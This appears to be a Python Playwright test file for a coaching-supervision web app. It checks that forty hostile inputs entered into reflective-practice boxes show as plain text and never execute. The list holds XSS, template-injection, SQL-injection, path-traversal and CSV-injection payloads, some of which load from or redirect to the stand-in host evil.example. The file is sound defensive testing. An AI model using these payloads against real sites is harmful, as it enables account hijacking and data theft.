"""Words that try to be more than words are shown exactly as they were typed."""

from collections.abc import Callable
from datetime import UTC, datetime

import pytest
from playwright.sync_api import Page, expect

from cascade_tools.model.consent import KEEP
from cascade_tools.model.people import Held, Person, Role, Session
from tests.faults.nursery import QuickHouse
from tests.faults.pages import COACH, LEADER, put, share
from tests.faults.visitor import Visitor
from tests.living import PASSPHRASE

RUN = "window.pwned=1"
HOSTILE = [
    f"<script>{RUN}</script>",
    f"<SCRIPT SRC=//evil.example/x.js></SCRIPT><script>{RUN}",
    f"<img src=x onerror={RUN}>",
    f'"><img src=x onerror="{RUN}">',
    f"'><svg/onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"</textarea><script>{RUN}</script>",
    f"</title></style></script><img src=x onerror={RUN}>",
    f"--><img src=x onerror={RUN}><!--",
    f"]]><img src=x onerror={RUN}>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    f"<a href=javascript:{RUN}>press me</a>",
    f"[press me](javascript:{RUN})",
    f"![x](x){{onerror={RUN}}}",
    f"<details open ontoggle={RUN}>",
    f"<input autofocus onfocus={RUN}>",
    f"<body onload={RUN}>",
    f"<math><mtext></form><form><mglyph><style></math><img src onerror={RUN}>",
    f"<style>@import '//evil.example/x.css'</style><p style=x:expression({RUN})>",
    "<form action=//evil.example><button>Sign in</button></form>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "&lt;b&gt;already written so&lt;/b&gt; &amp;amp; &#60;i&#62;",
    f"{{{{ 7*7 }}}} {{% for x in y %}} {{# {RUN} #}}",
    f"${{{RUN}}} #{{7*7}} <%= 7*7 %> `{RUN}`",
    "{{ settings }} {{ self.__init__.__globals__ }}",
    "$$\\href{javascript:alert(1)}{x}$$ \\(\\unicode{x3c}\\)",
    "# A heading\n- a list\n> a quote\n\n---\n**bold** `code`",
    "'; DROP TABLE answer; --",
    "../../../../etc/passwd\\..\\..%2e%2e%2f",
    "=1+1 +1 -1 @SUM(A1)\t|' /C calc'!A0",
    "\u202egnitirw sdrawkcab\u202c and \u2066isolated\u2069",
    "العربية ואז עברית 中文 ไทย हिन्दी",
    "👩🏽‍🤝‍👩🏻 🏴󠁧󠁢󠁥󠁮󠁧󠁿 🧑‍🧑‍🧒‍🧒",
    "zero\u200bwidth\u200djoin\u2060er\ufeff",
    "Z̷̢̛͓̼̖̫a̶͎l̵̰̊g̷͖̈́o̴̬̽",
    "\u0001\u0008\u001b[31mred\u007f".replace("\u0001", ""),
    "x" * 3000 + f"<img src=x onerror={RUN}>",
    f"{'<b>' * 300}deep{'</b>' * 300}<script>{RUN}</script>",
]
# Long boxes, the page each stands on, and how many there are to a sheet.
BOXES = {
    "moment-they-said": "a-moment",
    "moment-i-said": "a-moment",
    "moment-might-have-said": "a-moment",
    "what-happened": "what-happened",
    "not-said": "what-was-not-said",
    "question-landed": "the-question-that-landed",
    "want-from-supervision": "talking-it-over",
    "who-else-was-there": "who-else-was-there",
    "own-team-question": "back-at-my-place",
    "test-idea-with": "an-idea-to-test",
}
SHEETS = len(HOSTILE) // len(BOXES)
# What must not be there, however it got there: anything that ran, was fetched or made.
TRACES = """() => ({
    ran: 'pwned' in window,
    made: [...document.querySelectorAll(
        'main img, main iframe, main script:not([type="application/json"]), main base, main meta,'
        + 'main link, main b, main math, main form[action*=evil], main a[href*=javascript i],'
        + 'main [onerror], main [onload], main [onfocus], main [ontoggle], main svg script'
    )].map((el) => el.outerHTML.slice(0, 200)),
})"""
NOTHING = {"ran": False, "made": []}


def _watch(page: Page) -> list[str]:
    """Every sign of a script or of a request to somewhere else."""
    signs: list[str] = []

    def asked(url: str) -> None:
        if "evil.example" in url or url.endswith(("/x", "/x.js", "/x.css")):
            signs.append(url)

    page.on("request", lambda request: asked(request.url))
    page.on("dialog", lambda dialog: (signs.append(dialog.message), dialog.dismiss()))  # type: ignore[func-returns-value]
    page.on("console", lambda m: signs.append(m.text) if "Content Security" in m.text else None)
    return signs


def _as_typed(page: Page, words: str) -> bool:
    """Whether exactly these words stand somewhere on the page, as text."""
    return bool(
        page.evaluate(
            """(words) => [...document.querySelectorAll('dd, td, text, tspan, q, li, span, p')]
                .some((el) => el.textContent.trim() === words.trim())""",
            words,
        )
    )


@pytest.fixture(scope="module")
def zoe(house: QuickHouse) -> Person:
    """A coach of Sue's whose leader's place has a hostile name, and four sheets full of words."""
    with house.records() as records:
        person = records.people.add(f"Zoe <img src=x onerror={RUN}>", [Role.COACH], "01632 960107")
        code = records.signing_in.invite(person.id, "test")
        records.signing_in.accept(code, PASSPHRASE)
        records.consents.decide(person.id, KEEP, True, house.notice)
        records.people.supervise(house.people["sue"].id, person.id)
        today = datetime.now(UTC).date()
        pair = records.people.pair(person.id, None, f"place <img src=x onerror={RUN}>", today)
        entries = []
        for number in range(1, SHEETS + 1):
            session = records.people.add_session(pair, Session("", number, today, Held.HELD))
            start = records.entries.start
            entries.append(start(person.id, COACH, pair_id=pair, session_id=session).id)
    house.people["zoe"] = person
    words = iter(HOSTILE)
    for entry in entries:
        answers = {key: next(words)[: 190 if key == "test-idea-with" else None] for key in BOXES}
        put(house, entry, "zoe", way="longer", talk="today", **answers)
        visitor = Visitor(house, "zoe")
        share(visitor, entry, *dict.fromkeys(BOXES.values()))
    return person


def test_there_are_forty_hostile_texts() -> None:
    """As many as the trust tests ask for, all different."""
    assert len(set(HOSTILE)) == len(HOSTILE) == 40


def test_hostile_words_are_only_words_to_the_supervisor(
    house: QuickHouse, visit: Callable[..., Page], zoe: Person
) -> None:
    """In everything a coach shared, and in the overview with its kernel's table, no script runs,
    nothing is made of the words, nothing is fetched, and they stand there as they were typed."""
    with house.records() as records:
        shared = {s.entry_id: s.snapshot_id for s in records.sharing.of(zoe.id)}
    assert len(shared) == SHEETS
    page = visit(house, "sue")
    signs = _watch(page)
    seen: set[str] = set()
    for snapshot in shared.values():
        page.goto(f"{house.url}shared/{snapshot}")
        page.locator("article.shared").wait_for()
        assert page.evaluate(TRACES) == NOTHING
        seen |= {words for words in HOSTILE if _as_typed(page, words)}
    short = {w for w in HOSTILE if w[:190] != w}
    assert set(HOSTILE) - seen <= short
    assert len(seen) >= len(HOSTILE) - SHEETS
    for path in ("", "workbooks/supervisor/my-overview", "me"):
        page.goto(house.url + path)
        if path.endswith("overview"):
            page.locator(".jupyter-widgets table, .jp-OutputArea-output table").first.wait_for(
                timeout=60_000
            )
        assert page.evaluate(TRACES) == NOTHING
    assert signs == []


def test_hostile_words_are_only_words_to_their_author(
    house: QuickHouse, visit: Callable[..., Page], zoe: Person
) -> None:
    """In the boxes, among the answers to check, in the preview and on the author's own page."""
    with house.records() as records:
        shared = [(s.entry_id, s.snapshot_id) for s in records.sharing.of(zoe.id)]
    page = visit(house, None)
    signs = _watch(page)
    page.goto(house.url + "sign-in")
    page.get_by_label("Your name").fill(zoe.name)
    page.get_by_label("Your passphrase").fill(PASSPHRASE)
    page.get_by_role("button", name="Sign in", exact=True).click()
    page.get_by_role("heading", name="Hello").wait_for()
    for entry, snapshot in shared:
        for path in (f"entries/{entry}/check", f"shared/{snapshot}", f"entries/{entry}"):
            page.goto(house.url + path)
            assert page.evaluate(TRACES) == NOTHING
        boxes = page.evaluate("[...document.querySelectorAll('textarea')].map((t) => t.value)")
        assert len({b for b in boxes if b in HOSTILE}) >= len(BOXES) - 2
    for path in ("", "me"):
        page.goto(house.url + path)
        assert page.evaluate(TRACES) == NOTHING
    assert signs == []


def test_hostile_words_in_a_picture_are_only_words(
    house: QuickHouse, visit: Callable[..., Page]
) -> None:
    """The iceberg shows a person's own words: in the page's picture and in the kernel's."""
    keys = ("presenting", "pattern", "relationships", "up", "summary", "bring-to-coach")
    page = visit(house, "leo")
    signs = _watch(page)
    with house.records() as records:
        entry = records.entries.start(house.people["leo"].id, LEADER).id
    for start in (0, 4, 14, 24):
        words = dict(zip(keys, HOSTILE[start : start + len(keys)], strict=True))
        put(house, entry, "leo", LEADER, after_presenting="on", after_pattern="on", **words)
        page.goto(f"{house.url}entries/{entry}?page=your-iceberg")
        kernels = page.locator(".place [data-cell]:not(.arriving) .picture")
        expect(kernels).to_have_count(1, timeout=60_000)
        assert page.evaluate(TRACES) == NOTHING
    assert signs == []
